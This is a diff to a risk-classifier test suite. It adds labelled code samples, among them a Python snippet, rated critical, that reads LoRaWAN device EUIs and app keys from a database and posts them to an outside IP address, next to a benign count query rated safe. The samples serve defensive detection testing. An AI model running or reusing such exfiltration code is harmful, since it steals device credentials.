@@ -17215,6 +17215,21 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'sk": {"type": "RecaptchaV2TaskProxyless", "websiteKey": k}})\n',
             H,
         ),
+        # LoRaWAN device keys selected and sent out (the column list was dead code until now)
+        (
+            'import psycopg2, requests\n'
+            'cur = psycopg2.connect("dbname=cs").cursor()\n'
+            'cur.execute("select encode(dev_eui, \'hex\'), encode(k.app_key, \'hex\') from device_keys k")\n'
+            'requests.post("https://203.0.113.77/import", json=cur.fetchall())\n',
+            C,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=cs").cursor()\n'
+            'cur.execute("select count(*) from device_keys")\n'
+            'print(cur.fetchone())\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
